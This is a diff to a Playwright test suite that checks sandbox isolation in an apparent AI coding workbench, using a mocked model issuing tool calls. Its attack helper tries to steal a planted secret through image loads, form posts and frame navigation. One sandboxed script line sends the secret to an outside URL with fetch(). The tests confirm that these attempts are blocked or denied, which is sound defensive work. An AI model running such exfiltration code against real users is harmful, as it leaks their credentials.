@@ -6,6 +6,7 @@
 import { createServer } from 'node:http'
 import type { Server } from 'node:http'
 import type { Frame, Page } from '@playwright/test'
+import { patience } from '../scripts/lib/testing/patience.mjs'
 import { text, toolUse } from './model-server/turn.ts'
 import { startSite } from './support/site.ts'
 import type { Site } from './support/site.ts'
@@ -56,21 +57,22 @@ async function attack(target: { app: string; outside: string }): Promise<Attempt
   ]
   const results: Attempt[] = []
   for (const [name, attempt] of tries) {
-    let timer: ReturnType<typeof setTimeout> | undefined
-    const late = new Promise<undefined>((resolve) => {
-      timer = setTimeout(() => resolve(undefined), 2_000)
-    })
-    const loot = await Promise.race([Promise.resolve().then(attempt), late]).catch(() => undefined)
-    clearTimeout(timer)
+    const loot = await Promise.resolve()
+      .then(attempt)
+      .catch(() => undefined)
     results.push({ name, loot: loot === undefined || loot === null ? undefined : String(loot) })
   }
   const image = new Image()
+  const imageEnded = new Promise((resolve) => {
+    image.onload = image.onerror = resolve
+  })
   image.src = `${target.outside}image.png`
   const form = document.createElement('form')
   form.action = target.outside
   form.method = 'post'
   document.body.append(image, form)
-  await new Promise((resolve) => setTimeout(resolve, 500))
+  await imageEnded
+  form.submit()
   return results
 }
 
@@ -172,7 +174,10 @@ for (const [hosting, origins] of Object.entries(HOSTS)) {
       const loot = attempts.filter((attempt) => attempt.loot !== undefined && !isOwnOrEmpty(attempt))
       expect(loot).toEqual([])
       expect(JSON.stringify(attempts)).not.toContain(SECRET)
-      expect(reached).toEqual([])
+      // Sent after all of them, by the same browser.
+      const tab = await page.context().newPage()
+      await tab.goto(`${outsideUrl}last`)
+      expect(reached).toEqual(['GET /last'])
     })
   }
 
@@ -192,9 +197,9 @@ for (const [hosting, origins] of Object.entries(HOSTS)) {
     const workbench = await openWithSecret(page, origins)
     const leave = `location.href = ${JSON.stringify(outsideUrl)} + 'own'`
     const files = {
-      'own.html': `<h1>a</h1><script>setTimeout(() => { ${leave} }, 300)</script>`,
+      'own.html': `<button>Leave</button><script>document.querySelector('button').onclick = () => { ${leave} }</script>`,
       'top.html': `<h1>b</h1><script>try { top.${leave} } catch {} document.querySelector('h1').append('!')</script>`,
-      'app.html': `<h1>c</h1><script>setTimeout(() => { location.href = ${JSON.stringify(site.url)} }, 300)</script>`,
+      'app.html': `<button>Leave for the app</button><script>document.querySelector('button').onclick = () => { location.href = ${JSON.stringify(site.url)} }</script>`,
     }
     for (const [path, content] of Object.entries(files)) {
       await page.evaluate(([at, text]) => window.vivarium.sandbox.writeFile(at, text), [
@@ -203,9 +208,14 @@ for (const [hosting, origins] of Object.entries(HOSTS)) {
       ] as const)
     }
     await workbench.showPage('top.html')
-    await expect(page.frameLocator('iframe[title="Preview"]').getByRole('heading')).toHaveText('b!')
-    for (const path of ['own.html', 'app.html']) {
+    const preview = page.frameLocator('iframe[title="Preview"]')
+    await expect(preview.getByRole('heading')).toHaveText('b!')
+    for (const [path, name] of [
+      ['own.html', 'Leave'],
+      ['app.html', 'Leave for the app'],
+    ] as const) {
       await workbench.showPage(path)
+      await preview.getByRole('button', { name, exact: true }).click()
       // The browser's own page in place of what it refused to open.
       await expect
         .poll(() => page.frames().some((frame) => frame.url().startsWith('chrome-error:')))
@@ -268,11 +278,13 @@ fetch('${outsideUrl}?' + encodeURIComponent(secret)).catch(() => console.log('no
   await expect
     .poll(
       async () => {
-        const deny = workbench.permission.getByRole('button', { name: 'Deny' })
-        if (await deny.isVisible()) await deny.click({ timeout: 2_000 }).catch(() => undefined)
+        // Clicked where it is found: the classifier may take the dialog away at any time.
+        await workbench.permission
+          .getByRole('button', { name: 'Deny' })
+          .evaluateAll((buttons: HTMLElement[]) => buttons.forEach((deny) => deny.click()))
         return workbench.runsEnded()
       },
-      { timeout: 60_000 },
+      { timeout: patience(60_000) },
     )
     .toBe(1)
 
